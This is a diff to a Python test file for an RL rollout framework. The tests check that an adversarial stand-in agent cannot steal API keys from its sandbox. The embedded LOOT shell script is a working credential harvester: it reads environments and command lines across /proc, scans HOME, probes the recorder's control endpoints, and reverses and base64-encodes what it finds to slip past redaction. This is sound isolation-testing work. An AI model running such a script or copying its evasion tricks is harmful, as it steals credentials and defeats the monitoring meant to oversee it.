@@ -10,21 +10,30 @@ refuses without --allow-shared-proc) the same agent finds them, so the test can 
 
 from __future__ import annotations
 
+import base64
+import binascii
 import json
+import re
 import subprocess
 import sys
 import uuid
+from dataclasses import dataclass
 
 import pytest
 
+from forgerl.harnesses import Key, RunContext
+from forgerl.harnesses.spec import OPENAI_KEY
+from forgerl.recorder.credentials import KeyHolder, Tokens
 from forgerl.recorder.proxy import BackgroundRecorder, RecorderConfig
 from forgerl.runners import forkserver
 from forgerl.runners.cli import main as forge_run
+from forgerl.runners.grading import Judge
 from forgerl.runners.local import LocalRunner
 from forgerl.runners.rollout import Rollout
 from forgerl.runners.loader import load_tasks
 from forgerl.runners.sandbox import Sandbox, can_unshare
 from forgerl.runners.services import Service
+from forgerl.runners.simulated_user import UserModel
 from forgerl.schema.store import DatasetWriter
 
 from runner_fixtures import CALL_MODEL, PythonHarness, toml_task
@@ -150,3 +159,211 @@ def test_forge_run_refuses_a_shared_proc_unless_told(tmp_path, capsys):
     assert forge_run(argv) == 2
     err = capsys.readouterr().err
     assert "forge-run: " in err and "--allow-shared-proc" in err and len(err.strip().splitlines()) == 1
+
+
+# --- The adversarial task on every rollout path: the recorder holds the keys, the agent looks everywhere ---------
+
+VENDOR = "sk-vendor-" + uuid.uuid4().hex  # the model-API key only the recorder may hold
+USER_KEY = "sk-user-" + uuid.uuid4().hex  # the simulated user model's
+RECORDER_SECRET = "forge-secret-" + uuid.uuid4().hex  # the recorder's control secret
+SECRETS = (VENDOR, KEY, USER_KEY, RECORDER_SECRET)
+TOKEN = re.compile(rb"forge-cap-[A-Za-z0-9_-]+\.\d+\.\d+\.[A-Za-z0-9_-]+")
+
+# Everything an agent could find a key in: its environment, every process's environment and command line, files under
+# HOME and the workspace, the recorder's control endpoints (with its own token, and without). Each line reversed, then
+# base64, so that no redaction can see it: into the workspace, HOME and its output (a tool result, a final answer).
+LOOT = r"""
+key="${ANTHROPIC_API_KEY:-$OPENAI_API_KEY}"; base="${ANTHROPIC_BASE_URL:-$FORGE_BASE_URL}"
+origin=$(printf %s "$base" | sed -E 's#^(https?://[^/]+).*#\1#')
+{
+  env
+  for d in /proc/[0-9]*; do tr "\0" "\n" < "$d/environ"; tr "\0" " " < "$d/cmdline"; echo; done 2>/dev/null
+  for p in ready sessions/other/token sessions/other/close sessions/other/flush; do
+    for auth in "" "authorization: Bearer $key"; do
+      curl -s -m 10 -X POST -H "$auth" "$origin/_forge/$p"; curl -s -m 10 -H "$auth" "$origin/_forge/$p"; echo
+    done
+  done
+  find "$HOME" "$PWD" -type f -size -64k 2>/dev/null | while read -r f; do head -c 4000 "$f"; echo; done
+} 2>&1 | head -c 400000 | rev | base64 -w0 > /tmp/loot.$$
+cp /tmp/loot.$$ loot.b64; cp /tmp/loot.$$ "$HOME/loot.b64"; cat /tmp/loot.$$; rm -f /tmp/loot.$$
+"""
+
+# The Python stand-in agent (local runner, agent loop): runs LOOT, sends it to the model with its token, prints it.
+LOOTING_AGENT = f"""
+import json, os, subprocess, urllib.request
+loot = subprocess.run(['sh', '-c', {LOOT!r}], capture_output=True, text=True).stdout
+url = os.environ['FORGE_BASE_URL'] + '/s/' + os.environ['FORGE_SESSION_ID'] + '/v1/chat/completions'
+body = json.dumps({{'model': 'm', 'max_tokens': 4, 'messages': [{{'role': 'user', 'content': loot}}]}}).encode()
+headers = {{'content-type': 'application/json', 'authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']}}
+try:
+    urllib.request.urlopen(urllib.request.Request(url, data=body, headers=headers), timeout=60).read()
+except Exception as e:
+    print(type(e).__name__)
+print(loot)
+"""
+
+# The task's grader, outside the jail: did anything real reach the workspace, in any encoding? The secrets are
+# assembled here, not written out, so no process of the agent's carries them in its command line.
+LOOT_GRADER = f"""
+import base64, binascii, re
+blob = b"".join(p.read_bytes() for p in ws.rglob("*") if p.is_file())
+forms = [blob]
+for run in re.findall(rb"[A-Za-z0-9+/]{{16,}}={{0,2}}", blob):
+    try:
+        forms.append(base64.b64decode(run + b"=" * (-len(run) % 4)))
+    except (binascii.Error, ValueError):
+        pass
+secrets = [a.encode() + b.encode() for a, b in {[(s[:6], s[6:]) for s in SECRETS]!r}]
+found = [s for s in secrets for f in forms if s in f or s[::-1] in f]
+return {{"leaked": float(len(found)), "own_token": float(any(b"-pac-egrof" in f for f in forms))}}
+"""
+
+
+def exposed(data: bytes) -> list[str]:
+    """The secrets in `data`, plain, reversed, or inside base64 (of either)."""
+    forms = [data]
+    for run in re.findall(rb"[A-Za-z0-9+/]{16,}={0,2}", data):
+        try:
+            forms.append(base64.b64decode(run + b"=" * (-len(run) % 4)))
+        except (binascii.Error, ValueError):
+            continue
+    return [s for s in SECRETS for f in forms if s.encode() in f or s[::-1].encode() in f]
+
+
+def stolen_tokens(data: bytes) -> set[str]:
+    """The tokens the agent found (its own), decoded from what it sent out."""
+    found = set()
+    for run in re.findall(rb"[A-Za-z0-9+/]{16,}={0,2}", data):
+        try:
+            decoded = base64.b64decode(run + b"=" * (-len(run) % 4))
+        except (binascii.Error, ValueError):
+            continue
+        found |= {t.decode() for line in decoded.splitlines() for t in TOKEN.findall(line[::-1])}
+    return found
+
+
+def nothing_real_reached(dataset, sent: bytes, scores: dict) -> str:
+    """The adversarial rollout's verdict: the scan ran and saw its own token; no secret reached the workspace (the
+    grader's `leaked`), the dataset and outcomes (every value, decompressed) or what the network received (`sent`:
+    bodies and paths; the model API's headers carry the real key, as they must). Returns the token it stole."""
+    from test_recorder_durability import every_value_on_disk
+    assert scores == {"leaked": 0.0, "own_token": 1.0}, scores
+    values = list(every_value_on_disk(dataset))
+    assert values and not [where for where, data in values if exposed(data)]
+    assert sent and not exposed(sent)
+    [token] = stolen_tokens(sent)
+    return token
+
+
+def refused_after_the_rollout(token: str, recorder_url: str, session: str) -> None:
+    """A stolen token gets the API's 401 once its rollout is over, and for another session."""
+    import httpx
+    for s in (session, "another-session"):
+        r = httpx.post(f"{recorder_url}/s/{s}/v1/chat/completions", json={"model": "m", "messages": []},
+                       headers={"authorization": f"Bearer {token}", "x-api-key": token}, timeout=10)
+        assert r.status_code == 401, (s, r.text)
+
+
+def sent_out(upstream) -> bytes:
+    return b"".join(ex.body + ex.path.encode() for ex in upstream.log)
+
+
+@dataclass
+class LootingHarness(PythonHarness):
+    """The Python stand-in agent with a key variable of its own (`OPENAI_API_KEY`), as a real harness has."""
+
+    key: Key = OPENAI_KEY
+    code: str = LOOTING_AGENT
+
+    def command(self, exe: str, ctx: RunContext) -> tuple[list[str], dict[str, str]]:
+        return [exe, "-c", self.code], {**self.base_env(ctx), "FORGE_BASE_URL": ctx.base_url}
+
+
+@pytest.fixture(scope="module")
+def holding(planted):
+    """The vendor key, the user model's and the recorder's secret planted beside the judge's; a scripted model API."""
+    with pytest.MonkeyPatch.context() as mp:
+        for name, value in (("OPENAI_API_KEY", VENDOR), ("ANTHROPIC_API_KEY", VENDOR),
+                            ("FORGE_USER_MODEL_API_KEY", USER_KEY), ("FORGE_RECORDER_SECRET", RECORDER_SECRET)):
+            mp.setenv(name, value)
+        with ScriptedUpstream(loot_script) as up:
+            yield up
+
+
+def loot_script(request):
+    """A model that has the harness run LOOT in its shell, then answers."""
+    from runner_fixtures import shell_call
+    from scripted_upstream import Turn, saw_tool_result
+    if saw_tool_result(request):
+        return Turn(text="done")
+    return Turn(text="Looking around.", tool_calls=[shell_call(request, LOOT)])
+
+
+def held_recorder(out, upstream_url: str) -> BackgroundRecorder:
+    return BackgroundRecorder(RecorderConfig.one_upstream(out, upstream_url, keys=KeyHolder(
+        Tokens(RECORDER_SECRET), {"anthropic": VENDOR, "openai": VENDOR})))
+
+
+def loot_locally(upstream, tmp_path, isolate: bool = True):
+    """The looting agent under the local runner holding the keys, a judge and a user model set (their keys in the
+    runner's environment); the recorder stays up for the caller: (outcome, recorder URL)."""
+    [task] = load_tasks(toml_task(tmp_path / "tasks", "loot", LOOT_GRADER))
+    upstream.log.clear()  # what this rollout sends out, alone
+    with held_recorder(tmp_path / "data", upstream.url) as rec:
+        runner = LocalRunner(LootingHarness(), rec.config.url, tmp_path / "data", retries=0, isolate_network=isolate,
+                             judge=Judge(f"{upstream.url}/v1", "judge"), user=UserModel(f"{upstream.url}/v1", "user"),
+                             recorder_secret=RECORDER_SECRET)
+        with DatasetWriter(tmp_path / "data", source="runner") as writer:
+            [outcome] = runner.run([Rollout(task, 0)], writer)
+        assert outcome.error is None, outcome.error
+        yield outcome, rec.config.url
+
+
+def test_the_looting_agent_finds_nothing_locally_with_a_judge_and_a_user_model(holding, tmp_path):
+    for outcome, url in loot_locally(holding, tmp_path):
+        token = nothing_real_reached(tmp_path / "data", sent_out(holding), outcome.scores)
+        refused_after_the_rollout(token, url, outcome.session)
+
+
+def test_with_a_shared_proc_the_looting_agent_finds_the_keys(holding, tmp_path):
+    """The control: the same agent and checks, the jail sharing forgerl's /proc, do find them."""
+    for outcome, _ in loot_locally(holding, tmp_path, isolate=False):
+        assert outcome.scores["leaked"] > 0
+        assert {KEY, USER_KEY} <= set(exposed(sent_out(holding))), "the checks must see a key the agent sent out"
+
+
+@pytest.mark.slow
+def test_the_looting_agent_finds_nothing_in_a_kubernetes_pod(holding, tmp_path):
+    """Claude Code in a pod on the emulator, the judge set, the template mapping every key from a Secret: the
+    harness's variable holds only its token, and the judge's and user model's keys stay out of its /proc."""
+    from runner_fixtures import FakeKubelet, KubeAPI
+    from forgerl.harnesses import get_harness
+    from forgerl.runners.kubernetes import KubernetesRunner, api_client, load_template
+    tasks = tmp_path / "tasks"
+    [task] = load_tasks(toml_task(tasks, "loot", LOOT_GRADER))
+    holding.log.clear()
+    template = load_template()
+    template["spec"]["containers"][0]["env"] += [
+        {"name": name, "valueFrom": {"secretKeyRef": {"name": "forgerl-keys", "key": key}}}
+        for name, key in (("ANTHROPIC_API_KEY", "vendor"), ("OPENAI_API_KEY", "vendor"),
+                          ("FORGE_JUDGE_API_KEY", "judge"), ("FORGE_USER_MODEL_API_KEY", "user"))]
+    api = KubeAPI().start()
+    kubelet = FakeKubelet(api.url, "forgerl", tmp_path / "node",
+                          secrets={"forgerl-keys": {"vendor": VENDOR, "judge": KEY, "user": USER_KEY}}).start(api)
+    try:
+        with held_recorder(tmp_path / "data", holding.url) as rec:
+            runner = KubernetesRunner(get_harness("claude-code"), rec.config.url, api_client(api.url),
+                                      template=template, image="forgerl/rollout:test", pod_tasks=str(tasks),
+                                      pod_dataset=str(tmp_path / "data"), retries=0, recorder_secret=RECORDER_SECRET,
+                                      judge=Judge(f"{holding.url}/v1", "judge"))
+            with DatasetWriter(tmp_path / "data", source="runner") as writer:
+                [outcome] = runner.run([Rollout(task, 0)], writer)
+            assert outcome.error is None, (outcome.error, outcome.extra.get("pod_log_tail"))
+            [pod] = api.pods()
+            env = {e["name"]: e.get("value") for e in pod["manifest"]["spec"]["containers"][0]["env"]}
+            assert env["ANTHROPIC_API_KEY"].startswith("forge-cap-") and "OPENAI_API_KEY" not in env
+            token = nothing_real_reached(tmp_path / "data", sent_out(holding), outcome.scores)
+            refused_after_the_rollout(token, rec.config.url, outcome.session)
+    finally:
+        kubelet.stop()
+        api.stop()
